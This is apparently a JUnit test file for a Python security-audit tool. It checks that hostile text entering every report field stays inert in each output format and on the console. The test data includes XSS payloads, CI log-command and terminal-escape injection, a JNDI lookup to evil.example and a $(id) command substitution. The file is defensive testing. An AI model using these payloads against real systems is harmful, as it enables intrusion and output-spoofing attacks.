package io.github.pysecaudit.mojo;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.github.pysecaudit.advisory.Vulnerability;
import io.github.pysecaudit.advisory.Vulnerability.Severity;
import io.github.pysecaudit.advisory.VulnerabilityReport;
import io.github.pysecaudit.badge.BadgeEntry;
import io.github.pysecaudit.badge.BadgeLevel;
import io.github.pysecaudit.badge.BadgeSource;
import io.github.pysecaudit.badge.BadgeStanding;
import io.github.pysecaudit.check.Checklist;
import io.github.pysecaudit.checklist.AuditResult;
import io.github.pysecaudit.checklist.Dependency;
import io.github.pysecaudit.checklist.Requirement;
import io.github.pysecaudit.facts.MemoryRepository;
import io.github.pysecaudit.facts.ProjectFacts;
import io.github.pysecaudit.gate.Gate;
import io.github.pysecaudit.gate.Policy;
import io.github.pysecaudit.remote.Lookup;
import io.github.pysecaudit.report.AuditReport;
import io.github.pysecaudit.report.ConsoleReport;
import io.github.pysecaudit.report.Explanation;
import io.github.pysecaudit.report.GitHubActions;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collection;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalInt;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.xml.sax.InputSource;

/**
 * Hostile text at every place where foreign text enters, through the checks, into every report and
 * onto the console. A word that is found again shows that the text of each place really came
 * through.
 */
class ForeignTextTest {
  private static final Pattern TAG =
      Pattern.compile(
          "</?(!doctype|html|head|meta|title|body|a|header|div|span|h1|h2|h3|p|strong|main|nav|ul|ol|li|section|details|summary|code|footer)("
              + " [a-z-]+(=\"[^\"<>]*\")?)*>");
  private static final Pattern WORD = Pattern.compile("entry[a-z]+");

  /** The places whose text must be found in the complete report. */
  private static final List<String> ENTRIES =
      List.of(
          "entryname",
          "entryfolder",
          "entrybroken",
          "entrymarker",
          "entryrequirement",
          "entryinclude",
          "entrylink",
          "entrysetup",
          "entryproject",
          "entrystatement",
          "entryunknown",
          "entryworkflow",
          "entryid",
          "entryadvisory",
          "entryalias",
          "entrypackage",
          "entrysummary",
          "entryvector",
          "entryfixed",
          "entrypath",
          "entryurl",
          "entrymodule",
          "entryreason",
          "entrysource",
          "entryrepository",
          "entrynote",
          "entrynotes",
          "entrydirectory",
          "entrycoordinates",
          "entryaccepted",
          "entryremote");

  /** Of the texts below; it may come as an address, and is no name of a file. */
  private static final String PASSWORD = "0topsecret";

  @TempDir Path folder;

  static Stream<String> hostile() {
    return Stream.of(
        "<script>alert(1)</script><img src=x onerror=alert(2)>",
        "\"'><svg/onload=alert(1)>",
        "]]></system-out><!-- --> <![CDATA[ & &amp; &#0;",
        "\u001b[31mred\u001b]0;title\u0007 \u009b31m \u0085",
        "a\r\n[ERROR] forged\n::error::forged",
        "::error file=x::forged",
        "##[error]forged ##vso[task.complete]x ##teamcity[buildStatus]",
        "\u001b[0Ksection_start:1:x\r\u001b[0K \u001b[8mha:////AAAA\u001b[0m",
        "abc\u202Egnp.exe\u2066\u2069\u200B\uFEFF\u2028::error::x\u2029",
        "[click](javascript:alert(1)) ![x](https://evil.example/x.png) `code` | cell |",
        "javascript:alert(1)//",
        "data:text/html,<script>alert(1)</script>",
        "a\u0000b\uFFFE\uFFFF",
        "\uD83D half \uDE00 pair \uD83D\uDE00",
        "https://user:0topsecret@evil.example/",
        "{{7*7}} ${jndi:ldap://evil.example/x} $(id) %s %n %0A::error::x \\",
        "x".repeat(30_000));
  }

  /** Where text enters by a file of the tree. */
  private static MemoryRepository tree(String all) {
    String line = all.replaceAll("[\\r\\n]", " ");
    String text = all.contains(PASSWORD) ? "" : all;
    MemoryRepository tree = new MemoryRepository();
    tree.with("entryname" + text + ".py", "import os\nos.system(input())\n");
    tree.with("entryfolder" + text + "/a.py", "import os\nos.system(input())\n");
    tree.with("entrybroken" + text + "/pyproject.toml", "[[[");
    tree.with("marked.py", "import os\nos.system(input())  # nosec PYA602 - entrymarker" + line);
    tree.with("unknown.py", "import os\nos.system(input())  # nosec entryid" + line);
    tree.with(
        "requirements.txt",
        "entryrequirement>=1 ; " + line + "\n-r entryinclude" + line + "\na @ entrylink" + line);
    tree.with("setup.cfg", "[options]\ninstall_requires =\n    entrysetup " + line + "\n");
    tree.with(
        "pyproject.toml",
        "[project]\nname = \"p\"\nversion = \"1\"\ndependencies = [\"entryproject>=1 "
            + line.replaceAll("[\\\\\"\\p{Cntrl}]", "?")
            + "\"]\n");
    tree.with(
        "SECURITY.md",
        "# Security\n\n"
            + "Write to security@example.org.\n\n"
            + "## Not applicable\n\n"
            + "- **Fuzzing (3.1)** is not applicable because entrystatement "
            + line
            + "\n\n- **entryunknown 77.7** is not applicable because "
            + line
            + "\n");
    tree.with(
        "README.md",
        "# P\n\n[![b](https://www.bestpractices.dev/projects/1/badge)](https://x) " + line);
    tree.with("Dockerfile", "FROM entryimage" + line + "\nUSER root\n");
    tree.with("a.service", "[Service]\nUser=root\nExecStart=/bin/entryunit " + line + "\n");
    tree.with(
        ".github/workflows/entryworkflow" + text + ".yml",
        "on: push\npermissions: write-all\njobs:\n  a:\n    steps: [{run: sudo x}]\n");
    return tree;
  }

  private static VulnerabilityReport vulnerabilities(Collection<Dependency> all, String foreign) {
    String text = foreign.contains(PASSWORD) ? "" : foreign;
    Dependency first = all.iterator().next();
    Vulnerability one =
        new Vulnerability(
            "entryadvisory" + text,
            List.of("entryalias" + text),
            Dependency.PYPI,
            "entrypackage" + text,
            "1" + text,
            "entrysummary" + text,
            Severity.HIGH,
            OptionalDouble.of(8.0),
            Optional.of("entryvector" + text),
            Optional.of("entryfixed" + text),
            Optional.empty(),
            List.of(List.of("entrypath" + text, "b")),
            "runtime",
            Optional.of("entrymodule" + text),
            first.place(),
            "https://osv.dev/entryurl" + text);
    return new VulnerabilityReport(
        List.of(one),
        List.of(new VulnerabilityReport.NotValidated(first, "entryreason " + text)),
        List.of(),
        new VulnerabilityReport.Counts(1, 1, 1, 1),
        Duration.ZERO,
        List.of("entrysource" + text));
  }

  private static BadgeSource badge(String foreign) {
    String text = foreign.contains(PASSWORD) ? "" : foreign;
    BadgeEntry entry =
        new BadgeEntry(
            1,
            "entrybadge" + text,
            "in_progress",
            50,
            OptionalInt.empty(),
            "entryrepository" + text,
            text,
            Optional.of(text),
            "https://www.bestpractices.dev/projects/1" + text);
    return question ->
        Lookup.found(
            new BadgeStanding(
                BadgeStanding.Kind.OTHER_PROJECT,
                Optional.of(entry),
                List.of(entry),
                List.of("entrynote " + text),
                List.of("https://www.bestpractices.dev/" + text)),
            "test");
  }

  private static AuditReport report(String text) {
    ProjectFacts facts =
        ProjectFacts.of(tree(text))
            .repositoryUrl(Optional.of("https://github.com/entryremote/" + text))
            .badge(badge(text), OptionalInt.of(1), BadgeLevel.PASSING)
            .vulnerabilitySource(all -> vulnerabilities(all, text))
            .build();
    AuditResult result =
        new AuditResult(
            Checklist.evaluate(facts, EnumSet.allOf(Requirement.class)),
            facts.dependencies(),
            List.of("entrynotes " + text.replace(PASSWORD, "")));
    List<Vulnerability> open = facts.vulnerabilities().vulnerabilities();
    return new AuditReport(
        "1",
        new AuditReport.Subject(
            "entrydirectory" + text.replace(PASSWORD, ""),
            Optional.of("entrycoordinates:" + text.replace(PASSWORD, "")),
            Optional.of("https://github.com/entryremote/" + text),
            List.of("entrymodules" + text.replace(PASSWORD, ""))),
        result,
        Gate.decide(result, open, Policy.DEFAULT),
        open,
        List.of(
            new AuditReport.AcceptedEntry(
                open.get(0), "entryaccepted" + text.replace(PASSWORD, ""), "2027-01-01")),
        facts.scan().weaknesses(),
        Instant.EPOCH);
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void everyFormatHoldsItAsText(String text) throws Exception {
    AuditReport report = report(text);
    Reports.write(report, Reports.formats(), folder);
    Map<String, String> files = new TreeMap<>();
    try (Stream<Path> written = Files.list(folder)) {
      for (Path file : written.toList()) {
        files.put(file.getFileName().toString(), Files.readString(file, StandardCharsets.UTF_8));
      }
    }
    assertEquals(Reports.formats().size(), files.size(), files.keySet().toString());
    files.forEach(ForeignTextTest::assertPlain);
    for (Map.Entry<String, String> file : files.entrySet()) {
      String name = file.getKey();
      if (name.endsWith("json") || name.endsWith("sarif")) {
        new ObjectMapper().readTree(file.getValue());
      } else if (name.endsWith(".xml")) {
        assertXml(file.getValue());
      } else if (name.endsWith(".html")) {
        assertHtml(file.getValue());
      } else {
        assertMarkdown(file.getValue());
      }
    }
  }

  @Test
  void theTextOfEachPlaceComesThrough() throws Exception {
    Set<String> found = new TreeSet<>();
    for (String text : hostile().toList()) {
      Reports.write(report(text), Set.of("json"), folder);
      Matcher words = WORD.matcher(Files.readString(folder.resolve("audit.json")));
      while (words.find()) {
        found.add(words.group());
      }
    }
    for (String entry : ENTRIES) {
      assertTrue(
          found.stream().anyMatch(f -> f.startsWith(entry)), entry + " is missing in " + found);
    }
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void theConsoleShowsHarmlessLines(String text) {
    AuditReport report = report(text);
    List<String> lines = new ArrayList<>();
    ConsoleReport.lines(report, Optional.of(text)).forEach(l -> lines.add(l.text()));
    ConsoleReport.summary(report, Optional.of(text)).forEach(l -> lines.add(l.text()));
    lines.addAll(Explanation.of(EnumSet.allOf(Requirement.class), report));
    for (String line : lines) {
      PlainLogTest.assertHarmless(io.github.pysecaudit.report.PlainText.logged(line));
      assertEquals(-1, line.indexOf('\u001b'), line);
      assertEquals(1, line.lines().count() + (line.isEmpty() ? 1 : 0), line);
    }
    for (String command : new GitHubActions(Map.of("GITHUB_ACTIONS", "true")).annotations(report)) {
      assertTrue(command.matches("::(error|warning) [^\\n\\r]*"), command);
    }
  }

  /** Nothing in any file controls a terminal that shows it, and no password is in it. */
  private static void assertPlain(String name, String content) {
    content
        .codePoints()
        .filter(c -> c != '\n' && c != '\t')
        .forEach(
            c -> {
              int type = Character.getType(c);
              assertFalse(
                  type == Character.CONTROL || type == Character.FORMAT,
                  name + " holds a character that controls a display: " + c);
            });
    int at = content.indexOf(PASSWORD);
    assertEquals(-1, at, () -> name + ": " + content.substring(Math.max(0, at - 300), at));
  }

  private static void assertXml(String xml) throws Exception {
    DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
    factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
    assertEquals(
        1,
        factory
            .newDocumentBuilder()
            .parse(new InputSource(new StringReader(xml)))
            .getElementsByTagName("testsuites")
            .getLength());
  }

  private static void assertHtml(String html) {
    String page = html.replaceAll("(?s)<style>.*</style>", "");
    Matcher tags = TAG.matcher(page);
    long ours = tags.results().count();
    assertEquals(ours, page.chars().filter(c -> c == '<').count());
    assertEquals(ours, page.chars().filter(c -> c == '>').count());
    Matcher links = Pattern.compile(" href=\"([^\"]*)\"").matcher(page);
    links.results().forEach(l -> assertTrue(l.group(1).matches("(#|https?://).*"), l.group(1)));
  }

  private static void assertMarkdown(String markdown) throws IOException {
    Parser parser = Parser.builder().extensions(List.of(TablesExtension.create())).build();
    List<String> found = new ArrayList<>();
    parser
        .parse(markdown)
        .accept(
            new AbstractVisitor() {
              @Override
              public void visit(HtmlInline node) {
                found.add(node.getLiteral());
              }

              @Override
              public void visit(HtmlBlock node) {
                found.add(node.getLiteral());
              }

              @Override
              public void visit(Image node) {
                found.add("image " + node.getDestination());
              }

              @Override
              public void visit(Link node) {
                if (!node.getDestination().startsWith("https://")) {
                  found.add("link " + node.getDestination());
                }
              }
            });
    found.removeIf("<!-- -->"::equals);
    assertEquals(List.of(), found);
  }
}
